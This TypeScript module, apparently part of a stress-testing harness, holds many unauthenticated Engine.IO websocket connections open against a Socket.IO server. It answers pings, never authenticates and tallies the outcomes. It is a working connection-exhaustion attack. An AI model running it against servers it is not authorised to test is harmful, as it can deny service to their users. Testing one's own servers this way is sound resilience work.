/**
 * Idle engines: many sockets open an Engine.IO connection (websocket), answer its pings, and never send the
 * Socket.IO CONNECT — no token is ever shown, so nothing authenticates them. Opened over the first quarter
 * of the phase (at most 1 s); one the server closes is opened again a second later. At the deadline every
 * socket still open is closed by the attack.
 * Counted: `sockets`; `attempts`, each ending as `opened`, `refused:http-<status>`, `error:<kind>`,
 * `closed-before-open` (the WebSocket opened, the engine never did) or `cut-at-end` (still opening at the
 * deadline); each opened one as `closed-by-server` or `held-at-end`.
 */
import WebSocket from 'ws';
import { failureKind, nowEpoch, pause, type AttackParams, type Tally } from './common.ts';

export async function idleEngines(p: AttackParams, until: number, tally: Tally): Promise<void> {
  const n = p.idle.sockets;
  tally.add('sockets', n);
  const rampMs = Math.min(1000, (until - nowEpoch()) / 4);

  const holdOne = (url: string): Promise<void> =>
    new Promise((resolve) => {
      tally.add('attempts');
      const ws = new WebSocket(`${url.replace(/^http/, 'ws')}/socket.io/?EIO=4&transport=websocket`, {
        perMessageDeflate: false,
      });
      let opened = false;
      let failed = false;
      const deadline = setTimeout(() => ws.terminate(), Math.max(0, until - nowEpoch()));
      ws.on('message', (raw: WebSocket.RawData) => {
        const type = (Buffer.isBuffer(raw) ? raw : Buffer.from(raw as ArrayBuffer))[0];
        if (type === 0x30 /* '0' open */ && !opened) {
          opened = true;
          tally.add('opened');
        } else if (type === 0x32 /* '2' ping */) ws.send('3');
      });
      ws.on('error', (err) => {
        if (failed || opened) return;
        failed = true;
        const kind = failureKind(err);
        if (nowEpoch() >= until - 1)
          tally.add('cut-at-end'); // still opening when the attack ended
        else tally.add(kind.startsWith('http-') ? `refused:${kind}` : `error:${kind}`);
      });
      ws.on('close', () => {
        clearTimeout(deadline);
        if (opened) tally.add(nowEpoch() < until - 1 ? 'closed-by-server' : 'held-at-end');
        else if (!failed) tally.add(nowEpoch() < until - 1 ? 'closed-before-open' : 'cut-at-end');
        resolve();
      });
    });

  await Promise.all(
    Array.from({ length: n }, async (_, i) => {
      await pause((i * rampMs) / Math.max(1, n));
      const url = p.urls[i % p.urls.length] ?? '';
      while (nowEpoch() < until) {
        await holdOne(url);
        if (nowEpoch() < until) await pause(Math.min(1000, until - nowEpoch()));
      }
    }),
  );
}
